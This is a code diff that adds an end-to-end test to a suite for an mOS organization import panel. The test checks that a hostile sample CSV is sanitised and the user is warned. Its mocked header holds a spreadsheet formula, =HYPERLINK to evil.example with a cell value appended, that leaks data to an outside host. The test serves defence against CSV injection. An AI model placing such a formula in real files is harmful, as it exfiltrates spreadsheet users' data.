@@ -90,6 +90,28 @@ describe('the import panel on the mOS My Organization screen', () => {
     expect(await panel.locator('body').textContent()).toContain('no mos_opportunity column');
   });
 
+  it('keeps the standard columns, and says why, when the page\'s template has a formula for a column name', async () => {
+    const mos = await session.context.newPage();
+    // A hostile version of the mOS app: its "Download Sample File" names a column with a spreadsheet formula.
+    await mos.route(/\/mos\/sample\.csv$/, (route) =>
+      route.fulfill({
+        contentType: 'text/csv',
+        body: '=HYPERLINK("http://evil.example/?leak=" & B2),user_id,first_name,last_name,email,job_title,mos_enable\n',
+      }),
+    );
+    await mos.goto(`${session.demoOrigin}/mos/`);
+    const panel = mos.frameLocator(PANEL);
+    await expect.poll(() => panel.getByTestId('plan-to-import').textContent()).toBe('2');
+    const before = Number((await mos.evaluate(() => document.body.dataset.mosMockEvents)) ?? 0);
+    await panel.getByTestId('send-to-mos').click();
+    await waitForMockEvents(mos, before + 1);
+    const received = await mos.evaluate(() => (window as any).mosMock.received.at(-1) as { text: string });
+    expect(received.text.split('\n')[0]).toBe('user_id,first_name,last_name,email,job_title,mos_enable,mos_opportunity,course_enrollments');
+    expect(received.text).not.toContain('HYPERLINK');
+    await expect.poll(() => panel.locator('body').textContent()).toContain('looks like a spreadsheet formula');
+    await mos.close();
+  });
+
   it('offers the same file as a download instead', async () => {
     const mos = await session.context.newPage();
     await mos.goto(`${session.demoOrigin}/mos/`);
